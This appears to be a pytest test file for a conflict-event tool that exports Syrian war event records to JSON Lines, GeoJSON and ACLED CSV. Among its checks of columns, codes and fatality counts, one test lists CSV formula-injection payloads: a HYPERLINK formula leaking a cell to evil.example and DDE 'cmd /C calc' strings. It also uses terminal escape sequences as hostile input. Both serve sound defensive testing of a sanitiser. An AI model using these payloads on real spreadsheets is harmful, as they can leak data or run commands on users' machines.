"""Exports: JSON Lines round trip, GeoJSON geometry, ACLED CSV columns and codes.

The reports are short sentences written for these tests, not article text.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sitrep.admin1 import governorate, governorates
from sitrep.errors import InputError
from sitrep.export import (
    ACLED_COLUMNS,
    FORMULA_STARTS,
    PLAIN_NUMBER,
    AcledOptions,
    events_from_jsonl,
    events_to_acled_csv,
    events_to_geojson,
    events_to_jsonl,
    interaction_code,
    interaction_text,
    neutralise_cell,
    syrian_governorate,
)
from sitrep.model import FACT_STATUSES, Event, Span
from sitrep.render import clean_text

REPORT = ("Army units retook the hill of Tal Sheikh Youssef near Aleppo on Monday, the defence ministry said. "
          "Terrorist gangs fired rockets at the Hamdaniyah neighbourhood, killing a child.")


def report_event(evidence: str, **fields: object) -> Event:
    start = REPORT.index(evidence)
    base = Event(
        event_id="wire-1", doc_id="wire", event_date=date(2016, 8, 1), time_precision=1, event_type="Battles",
        sub_event_type="Government regains territory", actor1="Syrian Arab Army", actor1_side="government",
        actor2="", actor2_side="", location="Aleppo", latitude=36.2021, longitude=37.1343, geo_precision=2,
        fact_status="attributed_claim", evidence=evidence, evidence_start=start,
        evidence_end=start + len(evidence), place_id="wof:101751555", admin1="Aleppo",
        claimant="the defence ministry", source="Wire Desk", stance="neutral", url="https://example.org/1",
        published=date(2016, 8, 2), confidence=0.75, notes=("weekday resolved against publication date",))
    return replace(base, **fields)  # type: ignore[arg-type]


def sample_events() -> list[Event]:
    framing_at = REPORT.index("Terrorist gangs")
    retaking = report_event(REPORT.split(". ")[0] + ".")
    rockets = report_event(
        "Terrorist gangs fired rockets at the Hamdaniyah neighbourhood, killing a child.", event_id="wire-2",
        event_type="Explosions/Remote violence", sub_event_type="Shelling/artillery/missile attack",
        actor1="Rebels", actor1_side="opposition", actor2="Civilians", actor2_side="civilians",
        location="Hamdaniyah", latitude=36.1808, longitude=37.1239, geo_precision=1, fact_status="reported",
        claimant="", place_id="", hedges=(), framing=(Span(framing_at, framing_at + 15, "Terrorist gangs",
                                                           "name_calling"),))
    unlocated = report_event(REPORT.split(". ")[0] + ".", event_id="wire-3", latitude=None, longitude=None,
                             location="", admin1="", place_id="", event_date=None)
    return [retaking, rockets, unlocated]


def acled_rows(events: list[Event], **options: object) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(events_to_acled_csv(events, **options))))  # type: ignore[arg-type]


def test_export_jsonl_one_object_per_line_with_iso_dates_and_framing() -> None:
    lines = events_to_jsonl(sample_events()).splitlines()
    assert len(lines) == 3
    second = json.loads(lines[1])
    assert second["event_date"] == "2016-08-01" and second["published"] == "2016-08-02"
    assert second["framing"] == [{"start": 99, "end": 114, "surface": "Terrorist gangs",
                                  "technique": "name_calling"}]
    assert REPORT[99:114] == "Terrorist gangs"
    assert json.loads(lines[2])["event_date"] is None


def test_export_jsonl_round_trip_equals() -> None:
    events = sample_events()
    assert events_from_jsonl(events_to_jsonl(events)) == events


def test_export_jsonl_and_geojson_name_the_governorate_as_every_output_does() -> None:
    # The store keeps the gazetteer's spelling; the files carry sitrep's one name and read back to the store's.
    stored = [replace(e, admin1=admin1) for e, admin1 in
              zip(sample_events(), ("Days Az Zawr", "Hasaka (Al Haksa)", "Akkar"), strict=True)]
    assert [json.loads(line)["admin1"] for line in events_to_jsonl(stored).splitlines()] == \
        ["Deir ez-Zor", "Hasakah", "Akkar"]  # a name abroad as it is
    assert events_from_jsonl(events_to_jsonl(stored)) == stored
    features = json.loads(events_to_geojson(stored))["features"]
    assert [f["properties"]["admin1"] for f in features] == ["Deir ez-Zor", "Hasakah"]  # the third is unlocated
    written = events_to_jsonl(stored[:1]).replace('"Deir ez-Zor"', '"Deir al-Zour"')  # another file's spelling
    assert events_from_jsonl(written)[0].admin1 == "Days Az Zawr"
    assert acled_rows(stored)[0]["admin1"] == "Deir ez Zor"  # the ACLED CSV keeps ACLED's spelling


def test_export_jsonl_reader_skips_blank_lines_and_names_bad_line() -> None:
    text = "\n" + events_to_jsonl(sample_events()[:1]) + "\n"
    assert len(events_from_jsonl(text)) == 1
    with pytest.raises(InputError, match="line 2"):
        events_from_jsonl(events_to_jsonl(sample_events()[:1]) + '{"event_id": "x"}\n')


def test_export_geojson_feature_collection_lon_lat_skips_unlocated() -> None:
    collection = json.loads(events_to_geojson(sample_events()))
    assert collection["type"] == "FeatureCollection"
    features = collection["features"]
    assert [f["id"] for f in features] == ["wire-1", "wire-2"]
    assert features[0]["geometry"] == {"type": "Point", "coordinates": [37.1343, 36.2021]}
    assert features[1]["properties"]["sub_event_type"] == "Shelling/artillery/missile attack"
    assert "latitude" not in features[0]["properties"]


def test_export_acled_csv_has_acled_header_and_fills_known_columns() -> None:
    text = events_to_acled_csv(sample_events())
    assert text.splitlines()[0].split(",") == list(ACLED_COLUMNS)
    retaking, rockets, unlocated = acled_rows(sample_events())
    assert retaking["event_id_cnty"] == "wire-1" and retaking["year"] == "2016"
    assert retaking["event_date"] == "2016-08-01"
    assert retaking["disorder_type"] == "Political violence"
    assert (retaking["country"], retaking["iso"], retaking["region"]) == ("Syria", "760", "Middle East")
    assert (retaking["inter1"], retaking["inter2"], retaking["interaction"]) == ("1", "", "10")
    assert retaking["latitude"] == "36.2021" and retaking["longitude"] == "37.1343"
    assert "claimant: the defence ministry" in retaking["tags"]
    assert retaking["notes"] == ("On 2016-08-01, government regains territory in Aleppo: Syrian Arab Army "
                                 "(attributed claim). Reported by Wire Desk (1 report).")
    assert (rockets["inter1"], rockets["inter2"], rockets["interaction"]) == ("2", "7", "27")
    assert rockets["civilian_targeting"] == "Civilian targeting"
    assert retaking["fatalities"] == "0" and "fatalities: no number" in retaking["tags"]  # ACLED's 0
    assert rockets["fatalities"] == "1" and "fatalities:" not in rockets["tags"]  # "killing a child"
    assert retaking["timestamp"] == ""
    assert (unlocated["country"], unlocated["latitude"]) == ("", "")
    # no date in the text: the publication day, at ACLED's month precision, and said so
    assert (unlocated["event_date"], unlocated["year"], unlocated["time_precision"]) == ("2016-08-02", "2016", "3")
    assert "date: the publication date" in unlocated["tags"]


def test_export_acled_country_only_for_syrian_governorate_or_coordinates() -> None:
    base = sample_events()[0]
    by_coordinates = replace(base, admin1="")
    by_governorate = replace(base, admin1="Idlib", latitude=None, longitude=None)
    beirut = replace(base, admin1="Beirut", latitude=33.8938, longitude=35.5018)
    rows = acled_rows([by_coordinates, by_governorate, beirut])
    assert [r["country"] for r in rows] == ["Syria", "Syria", ""]
    assert rows[1]["admin1"] == "Idleb"  # ACLED's spelling
    assert rows[2]["admin1"] == "Beirut" and rows[2]["iso"] == ""


def test_export_acled_governorate_spellings() -> None:
    assert syrian_governorate("Days Az Zawr") == "Deir ez Zor"
    assert syrian_governorate("Rif Dimashq") == "Rural Damascus"
    assert syrian_governorate("Hasaka (Al Haksa)") == "Al Hasakeh"
    assert syrian_governorate("Akkar") == ""


@pytest.mark.parametrize("event_type, sub_event_type, expected", [
    ("Protests", "Peaceful protest", "Demonstrations"),
    ("Protests", "Excessive force against protesters", "Political violence; Demonstrations"),
    ("Riots", "Violent demonstration", "Demonstrations"),
    ("Riots", "Mob violence", "Political violence"),
    ("Strategic developments", "Agreement", "Strategic developments"),
    ("Violence against civilians", "Attack", "Political violence"),
])
def test_export_acled_disorder_type(event_type: str, sub_event_type: str, expected: str) -> None:
    event = replace(sample_events()[0], event_type=event_type, sub_event_type=sub_event_type)
    assert acled_rows([event])[0]["disorder_type"] == expected


def test_export_acled_inter_codes_from_side_crowd_or_catalogue_type() -> None:
    base = sample_events()[0]
    protest = replace(base, event_type="Protests", sub_event_type="Protest with intervention",
                      actor1="Protesters", actor1_side="civilians", actor2="Syrian Arab Army",
                      actor2_side="government")
    militia = replace(base, actor1="National Defence Forces", actor2="Islamic State", actor2_side="isis")
    russian = replace(base, actor1="Russian Air Force", actor1_side="russia", actor2="YPG", actor2_side="kurdish")
    rows = acled_rows([protest, militia, russian])
    assert (rows[0]["inter1"], rows[0]["inter2"], rows[0]["interaction"]) == ("6", "1", "16")
    assert (rows[1]["inter1"], rows[1]["interaction"]) == ("1", "12")
    assert (rows[2]["inter1"], rows[2]["inter2"], rows[2]["interaction"]) == ("8", "2", "28")
    exact = acled_rows([militia], options=AcledOptions(actor_types={"National Defence Forces": "Political militia"}))
    assert (exact[0]["inter1"], exact[0]["interaction"]) == ("3", "23")
    unidentified = replace(base, actor1="gunmen", actor1_side="unknown")
    assert acled_rows([unidentified])[0]["inter1"] == "3"  # ACLED's Unidentified Armed Group


def test_export_acled_inter_codes_follow_the_conflict_profile() -> None:
    from sitrep.conflict import ConflictProfile, Side

    event = replace(sample_events()[0], actor1="Wagner Group", actor1_side="wagner")
    assert acled_rows([event])[0]["inter1"] == "3"  # a side the shipped profile does not know
    profile = ConflictProfile(name="test", country="Syria", iso="SY",
                              sides={"wagner": Side("wagner", "Wagner", acled_type="External/Other forces")})
    assert acled_rows([event], options=AcledOptions(profile=profile))[0]["inter1"] == "8"


def test_export_acled_inter_names_as_acleds_newer_files() -> None:
    retaking, rockets, _ = acled_rows(sample_events(), options=AcledOptions(inter_names=True))
    assert (retaking["inter1"], retaking["inter2"], retaking["interaction"]) == ("State forces", "",
                                                                                  "State forces only")
    assert (rockets["inter1"], rockets["inter2"], rockets["interaction"]) == ("Rebel group", "Civilians",
                                                                              "Rebel group-Civilians")
    assert interaction_text(7, 1) == "State forces-Civilians"


def test_export_interaction_code_lower_first() -> None:
    assert interaction_code(7, 1) == "17"
    assert interaction_code(2, None) == "20"
    assert interaction_code(None, None) == ""


# --- property tests -------------------------------------------------------------------------------

ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
LATITUDE = st.floats(-90, 90)
LONGITUDE = st.floats(-180, 180)
# What the store keeps as admin1: a governorate in the gazetteer's spelling, or any other name (abroad) that
# spells no governorate (a name that does, "Latakia", is stored as the gazetteer's "Lattakia").
STORED_ADMIN1 = st.sampled_from([g.admin1 for g in governorates()]) | ANY_TEXT.filter(lambda t: governorate(t) is None)


@st.composite
def events(draw: st.DrawFn) -> Event:
    text = draw(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
    start = draw(st.integers(0, len(text)))
    end = draw(st.integers(start, len(text)))
    located = draw(st.booleans())
    framing = tuple(Span(s, s + len(w), w, draw(ANY_TEXT))
                    for s, w in draw(st.lists(st.tuples(st.integers(0, 10_000), ANY_TEXT), max_size=2)))
    return Event(
        event_id=draw(ANY_TEXT), doc_id=draw(ANY_TEXT), event_date=draw(st.none() | st.dates()),
        time_precision=draw(st.integers(1, 3)), event_type=draw(ANY_TEXT), sub_event_type=draw(ANY_TEXT),
        actor1=draw(ANY_TEXT), actor1_side=draw(ANY_TEXT), actor2=draw(ANY_TEXT), actor2_side=draw(ANY_TEXT),
        location=draw(ANY_TEXT), latitude=draw(LATITUDE) if located else None,
        longitude=draw(LONGITUDE) if located else None, geo_precision=draw(st.integers(1, 3)),
        fact_status=draw(st.sampled_from(FACT_STATUSES)), evidence=text[start:end], evidence_start=start,
        evidence_end=end, place_id=draw(ANY_TEXT), admin1=draw(STORED_ADMIN1),
        hedges=tuple(draw(st.lists(ANY_TEXT, max_size=2))), claimant=draw(ANY_TEXT), framing=framing,
        source=draw(ANY_TEXT), stance=draw(ANY_TEXT), url=draw(ANY_TEXT),
        published=draw(st.none() | st.dates()), confidence=draw(st.floats(allow_nan=False)),
        notes=tuple(draw(st.lists(ANY_TEXT, max_size=2))))


@given(st.lists(events(), max_size=5))
def test_export_property_jsonl_round_trip(generated: list[Event]) -> None:
    assert events_from_jsonl(events_to_jsonl(generated)) == generated


@given(st.lists(events(), max_size=5))
def test_export_property_geojson_coordinates_in_range_lon_lat(generated: list[Event]) -> None:
    features = json.loads(events_to_geojson(generated))["features"]
    located = [e for e in generated if e.latitude is not None and e.longitude is not None]
    assert len(features) == len(located)
    for feature, event in zip(features, located, strict=True):
        lon, lat = feature["geometry"]["coordinates"]
        assert (lon, lat) == (event.longitude, event.latitude)
        assert -180 <= lon <= 180 and -90 <= lat <= 90


@given(st.lists(events(), max_size=5))
def test_export_property_acled_csv_parses_with_acled_header(generated: list[Event]) -> None:
    reader = csv.DictReader(io.StringIO(events_to_acled_csv(generated), newline=""))
    rows = list(reader)
    assert reader.fieldnames == list(ACLED_COLUMNS)
    assert [r["event_id_cnty"] for r in rows] == [neutralise_cell(e.event_id) for e in generated]
    for row, event in zip(rows, generated, strict=True):
        assert bool(row["event_date"]) == (event.event_date is not None or event.published is not None)
        if row["event_date"]:
            assert int(row["year"]) == date.fromisoformat(row["event_date"]).year  # the date's own year
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or PLAIN_NUMBER.fullmatch(cell), cell
            assert "\x1b" not in cell


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=40))
def test_export_property_neutralised_cells_are_the_text_behind_a_guard(text: str) -> None:
    cell = neutralise_cell(text)
    assert neutralise_cell(cell) == cell  # once is enough
    assert cell.removeprefix("'") == clean_text(text, one_line=False) or cell == clean_text(text, one_line=False)


# Payloads from OWASP's CSV injection page and from spreadsheet exploits seen in the wild.
FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1, "click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "-", "+", "@"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_export_acled_csv_neutralises_formulas_in_report_text(payload: str) -> None:
    hostile = replace(report_event(REPORT.split(". ")[0] + "."), evidence=payload, actor1=payload,
                      location=payload, source=payload, claimant=payload)
    row = acled_rows([hostile])[0]
    for column in ("actor1", "location", "source"):
        assert row[column].startswith("'"), (column, row[column])
        assert row[column][1:] == payload.lstrip("\r"), column  # the text itself kept (a CR is dropped)
    assert not row["tags"].startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize(("cell", "kept"), [("-36.2021", True), ("-0.5", True), ("+5", True), ("1e-05", True),
                                            ("-.5", True), ("-1+1", False), ("-36.2021,=1", False),
                                            ("-inf", False), ("- 3", False), ("=1", False)])
def test_export_plain_numbers_are_left_as_numbers(cell: str, kept: bool) -> None:
    assert (neutralise_cell(cell) == cell) is kept
    assert neutralise_cell(cell) in (cell, "'" + cell)


def test_export_acled_csv_keeps_negative_coordinates_numeric() -> None:
    west = report_event(REPORT.split(". ")[0] + ".", latitude=-33.8688, longitude=-70.6693)
    row = acled_rows([west])[0]
    assert (float(row["latitude"]), float(row["longitude"])) == (-33.8688, -70.6693)


def test_export_acled_csv_drops_terminal_escapes() -> None:
    hostile = replace(report_event(REPORT.split(". ")[0] + "."),
                      location="Shelling \x1b[2J\x1b]0;owned\x07hit\x1b[0m the town")
    text = events_to_acled_csv([hostile])
    assert "\x1b" not in text and "\x07" not in text
    assert acled_rows([hostile])[0]["location"] == "Shelling hit the town"


# --------------------------------------------------------------- ACLED's meaning (issue 13): one row per
# merged event, what happened only, the catalogue's actors, the texts' fatalities, ACLED's governorates.


@pytest.mark.parametrize(("text", "count"), [
    ("Government shelling killed at least 20 civilians in Douma, activists said.", 20),  # wire
    ("The heroic army killed 12 terrorists, including 3 commanders, near Mork.", 12),  # state media: the total
    ("Three soldiers were killed and 10 wounded when a mine exploded.", 3),  # wounded are not fatalities
    ("The death toll rose to 45, the Observatory said.", 45),  # monitor
    ("The strike left 5 people dead and dozens injured.", 5),
    ("Regime barrel bombs fell on a market, killing a child.", 1),
    ("A car bomb killed 1,200 people.", 1200),
    ("Dozens were killed in the raid.", None),  # ACLED leaves vague counts out
    ("The army killed dozens of terrorists.", None),
    ("Rebels left two days later.", None),
])
def test_export_fatalities_counted_from_the_text(text: str, count: int | None) -> None:
    from sitrep.export_fatalities import fatalities_in

    assert fatalities_in(text) == count


def test_export_fatalities_lowest_figure_when_sources_differ() -> None:
    from sitrep.export_fatalities import fatalities_of

    wire = report_event("Army units retook the hill of Tal Sheikh Youssef near Aleppo on Monday, the defence ministry said.")
    low = replace(wire, evidence="The shelling killed 7 people, a monitor said.")
    high = replace(wire, evidence="The shelling killed at least 12 people, activists said.")
    assert fatalities_of([high, low, wire]) == 7
    assert fatalities_of([wire]) is None


def test_export_actors_are_the_catalogues_names_or_their_sides_generic_name() -> None:
    from sitrep.actors import load_actor_catalogue
    from sitrep.export_merged import canonical_actor, generic_actor_names

    catalogue, generic = load_actor_catalogue(), generic_actor_names()
    assert canonical_actor("Syrian Arab Army", "government", catalogue, generic) == "Syrian Arab Army"
    for label in ("regime", "army", "troops"):  # pejorative or generic labels of one side: no name of their own
        assert canonical_actor(label, "government", catalogue, generic) == generic["government"]
    assert canonical_actor("insurgents", "opposition", catalogue, generic) == generic["opposition"]
    assert canonical_actor("civilians", "civilians", catalogue, generic) == generic["civilians"]
    assert canonical_actor("", "", catalogue, generic) == ""


def test_export_generic_actor_names_follow_the_change_of_state() -> None:
    from sitrep.export_merged import generic_actor_names

    assert generic_actor_names(day=date(2016, 7, 28))["government"] == "Military Forces of Syria (2000-2024)"
    assert generic_actor_names(day=date(2024, 12, 7))["government"] == "Military Forces of Syria (2000-2024)"
    assert generic_actor_names(day=date(2025, 3, 6))["government"] == "Military Forces of Syria (2024-)"
    assert generic_actor_names()["government"] == "Military Forces of Syria (2000-2024)"  # no day: the first
    assert generic_actor_names(day=date(2025, 3, 6))["opposition"] == "Opposition Rebels (Syria)"


def test_export_governorates_in_acleds_spelling() -> None:
    from sitrep.admin1 import acled_admin1, governorates

    assert len(governorates()) == 14
    for gazetteer_name, acled in (("Lattakia", "Lattakia"), ("Latakia", "Lattakia"), ("Idlib", "Idleb"),
                                  ("Hasaka (Al Haksa)", "Al Hasakeh"), ("Rif Dimashq", "Rural Damascus"),
                                  ("Dar`a", "Dara"), ("Homs (Hims)", "Homs")):
        assert acled_admin1(gazetteer_name) == acled


@pytest.fixture(scope="module")
def dev_store(tmp_path_factory: pytest.TempPathFactory, nlp: Any, gazetteer: Any, shared: Path) -> Any:
    from sitrep.events.extract import load_resources
    from sitrep.pipeline import run_batch
    from sitrep.store import open_store

    db = str(tmp_path_factory.mktemp("export") / "dev.db")
    with open_store(db) as store:
        run_batch([shared / "data" / "corpus-dev"], store, load_resources(nlp, gazetteer))
    return db


def test_export_acled_round_trip_counts_equal_the_merged_listing(dev_store: str, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    from collections import Counter

    from typer.testing import CliRunner

    from sitrep.actors import load_actor_catalogue
    from sitrep.admin1 import governorates
    from sitrep.cli import app
    from sitrep.export import inter_text
    from sitrep.geo.admin import districts

    monkeypatch.chdir(tmp_path)
    cli = CliRunner()
    exported = cli.invoke(app, ["export", "--db", dev_store])
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    listed = [json.loads(line) for line in cli.invoke(
        app, ["events", "--db", dev_store, "--merged", "--format", "jsonl"]).stdout.splitlines() if line]
    happened = [m for m in listed if m["fact_status"] in ("reported", "attributed_claim")]
    left_out = re.search(r"left out (\d+) merged event", exported.stderr)
    assert rows and len(rows) + (int(left_out.group(1)) if left_out else 0) == len(happened)
    by_id = {m["merged_id"]: m for m in happened}
    assert {r["event_id_cnty"] for r in rows} <= set(by_id)  # one row per merged event, none that did not happen
    assert Counter(r["sub_event_type"] for r in rows) == Counter(by_id[r["event_id_cnty"]]["sub_event_type"]
                                                                 for r in rows)
    assert all(r["event_date"] and r["year"] == r["event_date"][:4] for r in rows)  # dates always set
    assert {r["admin1"] for r in rows} - {""} <= {g.acled for g in governorates()}
    # the new columns (issue 13): admin2 in ACLED's spellings for every row placed below a governorate,
    # inter codes from the codebook, associated actors in the catalogue's names, a one-line note naming
    # every source, the date's precision
    district_names = {d.acled for d in districts().values()}
    assert {r["admin2"] for r in rows} - {""} <= district_names
    placed = [r for r in rows if r["latitude"] and r["geo_precision"] != "3"]
    assert placed and sum(bool(r["admin2"]) for r in placed) >= 0.9 * len(placed)
    assert all(r["admin1"] for r in rows if r["admin2"])
    assert all(r["inter1"] in {str(code) for code in range(1, 9)} for r in rows if r["actor1"])
    assert all(r["interaction"] == interaction_code(int(r["inter1"]), int(r["inter2"]) if r["inter2"] else None)
               for r in rows if r["inter1"])
    catalogue_names = {a.name for a in load_actor_catalogue()}
    associated = [name for r in rows for column in ("assoc_actor_1", "assoc_actor_2")
                  for name in r[column].split("; ") if name]
    assert associated and set(associated) <= catalogue_names
    assert all(r["time_precision"] in ("1", "2", "3") for r in rows)
    assert all(r["fatalities"].isdigit() for r in rows) and any(r["fatalities"] != "0" for r in rows)
    for r in rows:
        assert "\n" not in r["notes"] and all(source in r["notes"] for source in r["source"].split("; "))
    names = cli.invoke(app, ["export", "--db", dev_store, "--inter", "names"])
    assert names.exit_code == 0, names.output
    named = list(csv.DictReader(io.StringIO(names.stdout)))
    assert [r["inter1"] for r in named] == [inter_text(int(r["inter1"])) if r["inter1"] else "" for r in rows]
    reports = [json.loads(line) for line in cli.invoke(
        app, ["events", "--db", dev_store, "--format", "jsonl"]).stdout.splitlines() if line]
    assert len(rows) < len([e for e in reports if e["fact_status"] in ("reported", "attributed_claim")])
    every = cli.invoke(app, ["export", "--db", dev_store, "--status", "all"]).stdout
    assert len(list(csv.DictReader(io.StringIO(every)))) > len(rows)  # expected, negated... asked for
    per_report = cli.invoke(app, ["export", "--db", dev_store, "--per", "report"]).stdout
    assert all("merged_id: " in r["tags"] and r["event_date"] and r["year"]
               for r in csv.DictReader(io.StringIO(per_report)))



def test_export_acled_round_trip_through_pandas(dev_store: str, tmp_path: Path) -> None:
    """What an analyst does with the file: `pandas.read_csv` with no options. The columns come back with
    ACLED's types (numbers as numbers, the ids as text, dates that parse), one row per merged event that
    happened, and the same counts by type, sub-type and governorate as `sitrep events --merged`."""
    import pandas
    from typer.testing import CliRunner

    from sitrep.admin1 import acled_admin1
    from sitrep.cli import app

    cli = CliRunner()
    out = tmp_path / "events.csv"
    exported = cli.invoke(app, ["export", "--db", dev_store, "--out", str(out)])
    assert exported.exit_code == 0, exported.output
    frame = pandas.read_csv(out)
    listed = [json.loads(line) for line in cli.invoke(
        app, ["events", "--db", dev_store, "--merged", "--format", "jsonl"]).stdout.splitlines() if line]
    happened = {m["merged_id"]: m for m in listed if m["fact_status"] in ("reported", "attributed_claim")
                and m["event_date"]}  # undated ones are left out of ACLED's file, with a note
    assert len(frame) == len(happened) and set(frame["event_id_cnty"].astype(str)) == set(happened)
    for column in ("event_type", "sub_event_type"):
        assert frame[column].value_counts().to_dict() == Counter(m[column] for m in happened.values())
    assert frame["admin1"].fillna("").value_counts().to_dict() == Counter(
        acled_admin1(m["admin1"]) for m in happened.values())
    assert pandas.api.types.is_integer_dtype(frame["year"]) and pandas.api.types.is_integer_dtype(frame["fatalities"])
    assert (frame["year"] == pandas.to_datetime(frame["event_date"], format="%Y-%m-%d").dt.year).all()
    assert frame["time_precision"].isin([1, 2, 3]).all() and (frame["fatalities"] >= 0).all()
    located = frame.dropna(subset=["latitude"])
    assert pandas.api.types.is_float_dtype(located["longitude"]) and located["latitude"].between(-90, 90).all()
    assert frame["iso"].dropna().eq(760).all()



def test_export_acled_per_report_rows_have_acleds_actor_names(dev_store: str) -> None:
    """`--per report` and `sitrep events --format csv` keep ACLED's meaning: the catalogue's names, a
    label's side's generic name ("regime", "troops": Military Forces of Syria), never the report's word."""
    from typer.testing import CliRunner

    from sitrep.actors import load_actor_catalogue
    from sitrep.cli import app
    from sitrep.export_merged import GENERIC_ACTORS_TABLE

    cli = CliRunner()
    per_report = cli.invoke(app, ["export", "--db", dev_store, "--per", "report", "--status", "all"])
    assert per_report.exit_code == 0, per_report.output
    rows = list(csv.DictReader(io.StringIO(per_report.stdout)))
    generic = {line.split("\t")[1] for line in GENERIC_ACTORS_TABLE.read_text(encoding="utf-8").splitlines()
               if line.strip() and not line.startswith("#")}
    known = {a.name for a in load_actor_catalogue()} | generic | {""}
    assert rows and {r[column] for r in rows for column in ("actor1", "actor2")} <= known
    raw = [json.loads(line) for line in cli.invoke(app, ["events", "--db", dev_store, "--format", "jsonl"])
           .stdout.splitlines() if line]
    assert {"regime", "army"} & {e["actor1"].lower() for e in raw}  # the reports' own words were there
    listed = list(csv.DictReader(io.StringIO(cli.invoke(app, ["events", "--db", dev_store, "--format", "csv"]).stdout)))
    by_id = {r["event_id_cnty"]: r for r in rows}
    assert listed and all((r["actor1"], r["actor2"], r["assoc_actor_1"]) == (by_id[r["event_id_cnty"]]["actor1"],
                          by_id[r["event_id_cnty"]]["actor2"], by_id[r["event_id_cnty"]]["assoc_actor_1"])
                          for r in listed if r["event_id_cnty"] in by_id)


# --- associated actors: the named allies a report links to actor1 or actor2 ----------------------------


@pytest.mark.parametrize(("evidence", "side", "day", "expected"), [
    # wire: a backer after "backed by"
    ("Syrian troops, backed by Russian jets, retook the town of Kinsabba on Sunday.", "government",
     date(2016, 2, 14), ["Russian Air Force"]),
    # Wikipedia's campaign pages: "supported by" with a list of named allies
    ("The Republican Guard, supported by the Palestine Liberation Army and Hezbollah, took the hill.",
     "government", date(2016, 6, 21), ["Palestine Liberation Army", "Hezbollah"]),
    # state media: allies listed with the army
    ("The army and Hezbollah entered the town after heavy fighting.", "government", date(2016, 6, 24),
     ["Hezbollah"]),
    # an epithet says who backs a force in general, not who took part in the event
    ("The US-backed Syrian Democratic Forces signed an agreement with the Damascus government.", "kurdish",
     date(2025, 3, 10), []),
    # the opposition's backer; the group the rebels belong to is the actor, not linked as an ally
    ("Rebels of the Sultan Murad Division, backed by Turkish artillery, seized the village.", "opposition",
     date(2018, 1, 25), ["Turkey"]),
    # "with the support of"
    ("The SDF advanced on Tabqa with the support of US-led coalition aircraft.", "kurdish", date(2017, 4, 1),
     ["US-led coalition"]),
    # an opponent is never an ally: "between the army and the Islamic State"
    ("Clashes between the army and the Islamic State went on near Palmyra.", "government", date(2016, 3, 20),
     []),
    # a named actor not linked by backing or company
    ("Syrian troops shelled the town; Hezbollah said it was not involved.", "government", date(2016, 6, 24),
     []),
    # after 8 December 2024 Russia no longer fights beside the state
    ("Government forces, backed by Russian jets, entered the town.", "government", date(2025, 3, 1), []),
])
def test_export_associated_actors_are_named_allies_linked_to_the_actor(evidence: str, side: str, day: date,
                                                                        expected: list[str]) -> None:
    from sitrep.actors import load_actor_catalogue
    from sitrep.export_actors import associated_actors

    event = replace(report_event(REPORT.split(". ")[0] + "."), evidence=evidence, event_date=day,
                    actor1_side=side)
    own = ("Syrian Arab Army", "Republican Guard", "Syrian Democratic Forces", "Opposition Rebels (Syria)")
    assert associated_actors(event, load_actor_catalogue(), actor_side=side, exclude=own) == expected


def test_export_associated_columns_split_by_camp_and_leave_out_the_actors_themselves() -> None:
    from sitrep.actors import load_actor_catalogue
    from sitrep.export_actors import associated_columns

    event = replace(report_event(REPORT.split(". ")[0] + "."), event_date=date(2016, 7, 28),
                    evidence="The army, backed by Hezbollah, fought rebels aided by the Turkistan Islamic "
                             "Party and Ahrar al-Sham.", actor2="rebels", actor2_side="opposition")
    assoc1, assoc2 = associated_columns(event, load_actor_catalogue(), "Syrian Arab Army",
                                        "Opposition Rebels (Syria)")
    assert assoc1 == "Hezbollah"
    assert assoc2 == "Turkistan Islamic Party; Ahrar al-Sham"
    assert associated_columns(event, None, "Syrian Arab Army", "") == ("", "")
